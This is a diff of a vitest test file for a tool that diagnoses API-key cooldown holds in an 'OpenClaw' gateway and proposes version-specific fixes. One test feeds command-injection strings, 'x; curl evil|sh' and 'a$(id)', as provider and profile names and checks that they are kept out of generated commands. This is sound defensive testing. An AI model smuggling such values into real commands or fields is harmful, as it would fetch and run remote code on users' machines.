@@ -1,15 +1,22 @@
 import { describe, expect, test } from "vitest";
 
+import { hashAuthProfileId } from "@/lib/openclaw/auth-profile-id";
+
 import { diagnoseHold, type HoldEvidence } from "./diagnose-hold";
 import { diagnoseProblem } from "./diagnose-problem";
 import { inEnglish } from "./english";
 import type { Finding } from "./finding";
 
+const STORED = hashAuthProfileId("alibaba-chat:default");
+
 type Known = Partial<Omit<HoldEvidence, "hold">>;
 
 function held(hold: Partial<HoldEvidence["hold"]>, known: Known = {}): Finding | null {
   return diagnoseHold({
-    hold: { kind: "cooldown", reason: "auth", model: null, rawError: null, ...hold },
+    hold: { kind: "cooldown", reason: "auth", model: null, rawError: null, authProfileHash: STORED, ...hold },
+    held: true,
+    names: {},
+    versionAssumed: false,
     plan: "standard",
     region: "cn-beijing",
     host: "https://dashscope.aliyuncs.com/compatible-mode/v1",
@@ -44,14 +51,18 @@ function checkFinding(reason: string): Finding {
 describe("a hold on a key that works", () => {
   test("is the gateway's memory: the key is healthy, and nobody is told to check it once more", () => {
     const finding = held(BILLING, WORKS);
-    expect(finding).toMatchObject({ rule: "gateway-hold", key: "healthy", category: "billing" });
-    expect(finding?.steps).toEqual(["wait-or-sign-in"]);
+    expect(finding).toMatchObject({
+      rule: "held-although-healthy",
+      key: "healthy",
+      category: "billing",
+    });
+    expect(finding?.steps).not.toContain("check-key");
     expect(finding?.evidence).toBe("disabled reason=billing");
   });
 
   test("after a refusal means that the gateway sends another key", () => {
     expect(held({ rawError: "401 Incorrect API key provided." }, WORKS)).toMatchObject({
-      rule: "gateway-uses-other-key",
+      rule: "gateway-uses-stored-key",
       key: "healthy",
       evidence: "401 Incorrect API key provided.",
     });
@@ -95,7 +106,10 @@ describe("what the provider said, against what the gateway made of it", () => {
   test("a debt recorded as auth is called a debt, until a check finds the key working", () => {
     const rawError = "400 Access denied, please make sure your account is in good standing.";
     expect(held({ rawError })).toMatchObject({ rule: "debt-held-as-auth", key: "billing" });
-    expect(held({ rawError }, WORKS)).toMatchObject({ rule: "gateway-hold", key: "healthy" });
+    expect(held({ rawError }, WORKS)).toMatchObject({
+      rule: "held-although-healthy",
+      key: "healthy",
+    });
   });
 
   test("a refusal that no check has looked at stays a suspicion", () => {
@@ -137,18 +151,109 @@ test("a hold that neither a check nor the provider's words say anything of is no
   expect(held({ rawError: "The moon was full." })).toBeNull();
 });
 
-test.each([
-  ["2026.9.6", "wait-or-sign-in"],
-  ["2026.5.12", "wait-or-sign-in"],
-  ["2026.4.1", "wait-or-clear-hold"],
-  ["2026.3.13", "wait-or-edit-state"],
-  ["v2026.2.17", "wait-or-edit-state"],
-  ["no version at all", "wait-or-clear-hold"],
-  [null, "wait-or-clear-hold"],
-])("how a hold is ended is told for the release of the gateway: %s", (openclawVersion, step) => {
-  const finding = held(BILLING, { ...WORKS, openclawVersion });
-  expect(finding?.steps).toEqual([step]);
-  expect(finding && inEnglish(finding).fix.join()).not.toContain("no version at all");
+const NO_RESTART = "restart-does-not-end";
+
+describe("how a hold is ended is told for the release of the gateway", () => {
+  test.each([
+    ["2026.9.6", ["edit-state-database", "paste-does-not-end"]],
+    ["2026.8.1", ["edit-state-database", NO_RESTART]],
+    ["2026.7.1", [NO_RESTART]],
+    ["2026.5.12", ["edit-state-file", NO_RESTART]],
+    ["2026.4.1", [NO_RESTART]],
+    ["no version at all", [NO_RESTART]],
+    [null, [NO_RESTART]],
+  ])("%s, for a provider id of one’s own: no sign-in ends it", (openclawVersion, more) => {
+    const finding = held(BILLING, { ...WORKS, openclawVersion, names: { provider: "alibaba-chat" } });
+    expect(finding?.steps).toEqual(["wait-for-end", "own-id-no-sign-in", ...more]);
+    expect(finding && inEnglish(finding).fix.join()).not.toContain("no version at all");
+  });
+
+  test.each([
+    ["2026.9.6", ["sign-in-ends-own", "paste-does-not-end"], "no others"],
+    ["2026.7.1", ["sign-in-ends-own", NO_RESTART], "no others"],
+    ["2026.5.12", ["sign-in-ends-all", NO_RESTART], "all auth profiles of the provider"],
+    ["2026.4.1", ["sign-in-if-new", NO_RESTART], "from 2026.5.12 on"],
+    [null, ["sign-in-if-new", NO_RESTART], "from 2026.5.12 on"],
+  ])("%s, for a plugin’s provider: what a sign-in ends", (openclawVersion, more, words) => {
+    const finding = held(BILLING, { ...WORKS, openclawVersion, names: { provider: "qwen" } });
+    expect(finding?.steps).toEqual(["wait-for-end", ...more]);
+    expect(finding && inEnglish(finding).fix.join()).toContain(words);
+  });
+
+  test.each(["2026.3.13", "v2026.2.17"])("%s: only its end, a success, or the stored file", (version) => {
+    const finding = held(BILLING, {
+      ...WORKS,
+      openclawVersion: version,
+      names: { provider: "alibaba-chat" },
+    });
+    expect(finding?.steps).toEqual(["wait-for-end", "no-command-ends-it", "edit-profiles-file", NO_RESTART]);
+  });
+
+  test("an assumed release is said to be assumed", () => {
+    const finding = held(BILLING, { ...WORKS, versionAssumed: true });
+    expect(finding?.steps.at(-1)).toBe("name-the-release");
+    expect(finding && inEnglish(finding).fix.at(-1)).toContain("OpenClaw 2026.9.6, which is assumed");
+  });
+
+  test("what holds nothing any more needs no end", () => {
+    const finding = held({ rawError: "403 Model access denied." }, { held: false });
+    expect(finding?.steps).toEqual(["grant-model", "other-model"]);
+  });
+});
+
+describe("which key the gateway uses instead", () => {
+  const REFUSED = { rawError: "401 Incorrect API key provided." };
+
+  test("of an auth profile: replaced by its id on 2026.9.6, deleted by a script before", () => {
+    const names = { provider: "alibaba-chat", authProfile: "alibaba-chat:default" };
+    const now = held(REFUSED, { ...WORKS, names });
+    expect(now?.rule).toBe("gateway-uses-stored-key");
+    expect(now?.commands["replace-stored-key"]).toBe(
+      "openclaw models auth paste-api-key --provider alibaba-chat --profile-id alibaba-chat:default",
+    );
+    expect(now?.commands["config-key-first"]).toBe(
+      "openclaw config set models.providers.alibaba-chat.auth api-key",
+    );
+    const old = held(REFUSED, { ...WORKS, names, openclawVersion: "2026.3.13" });
+    expect(old?.steps).not.toContain("config-key-first");
+    expect(old?.commands["remove-stored-key"]).toContain("auth-profiles.json");
+  });
+
+  test.each([
+    ["no auth profile at all", null],
+    ["the one OpenClaw makes up", hashAuthProfileId("inline-api-key:alibaba-chat")],
+  ])("of config or environment, by %s", (_, authProfileHash) => {
+    const names = { provider: "alibaba-chat", variable: "ALIBABA_CHAT_API_KEY" };
+    const finding = held({ ...REFUSED, authProfileHash }, { ...WORKS, names });
+    expect(finding?.rule).toBe("gateway-uses-inline-key");
+    expect(finding?.commands["store-key-in-env"]).toContain("ALIBABA_CHAT_API_KEY");
+    expect(finding?.steps).not.toContain("replace-stored-key");
+  });
+
+  test("names from a hostile log line make no command", () => {
+    const names = { provider: "x; curl evil|sh", authProfile: "a$(id)" };
+    const finding = held(REFUSED, { ...WORKS, names });
+    expect(JSON.stringify(finding?.commands)).not.toMatch(/evil|\$\(id\)/);
+    expect(finding?.commands["restart-gateway"]).toBe("openclaw gateway restart");
+  });
+});
+
+test("a path that is wrong for the gateway and right for us is its base URL", () => {
+  const names = { provider: "alibaba-chat", baseUrl: "https://dashscope.aliyuncs.com/compatible-mode/v1" };
+  const finding = held(
+    { reason: "model_not_found", rawError: "404 status code (no body)" },
+    { ...WORKS, names },
+  );
+  expect(finding).toMatchObject({ rule: "gateway-wrong-path", key: "healthy" });
+  expect(finding?.commands["set-base-url"]).toBe(
+    "openclaw config set models.providers.alibaba-chat.baseUrl https://dashscope.aliyuncs.com/compatible-mode/v1",
+  );
+});
+
+test("access denied to the gateway with a key that we prove is a grant, not a key", () => {
+  const rawError = "403 Access denied.";
+  expect(held({ rawError }, WORKS)?.rule).toBe("grant-held-as-auth");
+  expect(held({ rawError })?.rule).toBe("access-denied");
 });
 
 test.each([
